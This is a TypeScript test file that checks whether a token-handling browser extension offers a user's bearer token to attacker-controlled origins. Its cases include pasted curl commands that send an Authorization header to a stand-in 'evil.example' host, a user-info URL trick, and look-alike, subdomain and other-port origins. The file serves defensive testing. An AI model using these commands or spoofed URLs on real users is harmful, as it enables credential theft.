import { gained } from '../suite/gained';
import { EVIL, TARGET } from '../suite/target';
import type { Vector } from '../suite/vector';

const SECRET = 'sample-token-of-somebody-0000';
const HEADER = "-H 'Authorization: Bearer sample-token-0000'";

/**
 * Whether the extension offers to send a token to the attacker, or to let the attacker use it, when the user
 * adds one.
 * @param tab origin of the page that the user looks at meanwhile
 */
const offered = (tab: string, pasted: string, attacker = tab): Vector => ({
  run: async ({ extension }) => {
    const origins = (await extension.offers?.(tab, pasted)) ?? [];
    return gained(origins.includes(attacker));
  },
  arrives: [],
});

/** What the extension offers by itself while a token is added. */
export default {
  // A command from the attacker’s page, with a token that the user put in.
  'pasted-command': offered(TARGET.docs, `curl ${EVIL}/v1 ${HEADER}`, EVIL),
  // The API’s name stands before the attacker’s.
  'pasted-user-info': offered(TARGET.docs, `curl https://${TARGET.host}@evil.example/v1 ${HEADER}`, EVIL),
  // The user looks at the attacker’s page while adding a token.
  tab: offered('https://evil.example', SECRET),
  'tab-of-look-alike': offered('https://api.airship.co.uk.evil.example', SECRET),
  'tab-of-sub-domain': offered('https://evil.api.airship.co.uk', SECRET),
  'tab-on-other-port': offered('https://api.airship.co.uk:8443', SECRET),
} satisfies Readonly<Record<string, Vector>>;
